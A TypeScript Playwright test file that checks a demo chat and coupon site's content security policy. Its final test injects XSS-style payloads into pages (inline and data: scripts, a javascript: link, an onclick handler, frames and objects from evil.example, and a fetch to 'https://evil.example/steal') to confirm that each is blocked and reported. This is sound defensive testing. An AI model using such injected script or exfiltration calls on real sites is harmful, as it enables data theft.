import type { Browser, BrowserContext } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { notablePeople } from '../../../src/simulator/people/notable.ts'
import { watchPolicy } from '../../support/policy-reports.ts'
import { launchChromium } from '../../support/chromium.ts'
import { engines } from '../../support/databases.ts'
import { type DemoSite, openDemoSite } from '../../support/demo-site.ts'
import { openWindow } from '../../support/window.ts'

const { hesitant, newcomer } = notablePeople
const tabs = ['话术', '优惠', '轨迹', '首页']

describe('the content security policy', () => {
  let browser: Browser
  let site: DemoSite
  beforeAll(async () => {
    const [sqlite] = engines
    if (!sqlite) throw new Error('there is no engine')
    site = await openDemoSite(await sqlite.open())
    browser = await launchChromium()
  })
  afterAll(async () => {
    await browser.close()
    await site.close()
  })

  async function watched(): Promise<{ context: BrowserContext; stopped: string[] }> {
    const context = await browser.newContext({ locale: 'zh-CN' })
    const stopped: string[] = []
    await watchPolicy(context, (line) => stopped.push(line))
    return { context, stopped }
  }

  it('stops nothing on the way from the panel to the code, nor on any tab', async () => {
    const window = await openWindow(browser, site.origin, `?chat=${hesitant.externalUserId}`)
    const { panel, page, phone, complaints } = window
    await panel.getByText('LTV', { exact: true }).waitFor()
    await window.button('一键发券').click()
    await window.button('作废').waitFor()
    await window.button('发送').click()
    await page
      .getByRole('log')
      .getByRole('button', { name: /^打开卡片/ })
      .click()
    await phone.getByRole('button', { name: '领取', exact: true }).click()
    await phone.getByText(/^[A-Z2-9]{4}-[A-Z2-9]{4}-[A-Z2-9]{4}$/).waitFor()
    await phone.getByAltText('券码的二维码').waitFor()
    for (const tab of tabs) {
      await window.button(tab).click()
      await page.waitForLoadState('networkidle')
    }
    await window.openChat(newcomer.externalUserId)
    await window.button('发送测试').click()
    await page
      .getByRole('log')
      .getByRole('button', { name: /^打开卡片/ })
      .last()
      .click()
    await phone.getByText('进度 1/3').waitFor()
    await page.waitForLoadState('networkidle')
    expect(complaints).toEqual([])
    await window.close()
  })

  it.each(['/docs', '/docs/static/index.html', '/auth/wecom/callback', '/c/unknownunknownunknown00'])(
    'stops nothing that %s needs',
    async (path) => {
      const { context, stopped } = await watched()
      const page = await context.newPage()
      await page.goto(site.origin + path)
      await page.waitForLoadState('networkidle')
      expect((await page.locator('body').innerText()).length).toBeGreaterThan(10)
      expect(stopped).toEqual([])
      await context.close()
    },
  )

  it('stops every way into a page that a hole could give, and the report of it is heard', async () => {
    for (const path of ['/', '/c/unknownunknownunknown00', '/q/unknownunknownunknown00', '/docs']) {
      const { context, stopped } = await watched()
      const page = await context.newPage()
      await page.goto(site.origin + path)
      await page.waitForLoadState('networkidle')
      await page.evaluate(() => {
        const add = (name: string, attributes: Record<string, string>, text = '') => {
          const element = document.createElement(name)
          for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
          element.textContent = text
          document.body.append(element)
          return element
        }
        add('script', {}, 'window.__ran = "inline script"')
        add('script', { src: 'data:text/javascript,window.__ran="data script"' })
        add('script', { src: 'https://evil.example/x.js' })
        add('a', { href: 'javascript:window.__ran="address"' }).click()
        add('button', { onclick: 'window.__ran="handler"' }).click()
        add('iframe', { src: 'https://evil.example/' })
        add('object', { data: 'https://evil.example/x.swf' })
        fetch('https://evil.example/steal').catch(() => undefined)
      })
      await expect
        .poll(() => new Set(stopped.map((line) => / (\S+) stopped/.exec(line)?.[1])))
        .toEqual(new Set(['script-src-elem', 'script-src-attr', 'frame-src', 'object-src', 'connect-src']))
      expect(await page.evaluate(() => (window as { __ran?: string }).__ran)).toBeUndefined()
      await context.close()
    }
  })
})
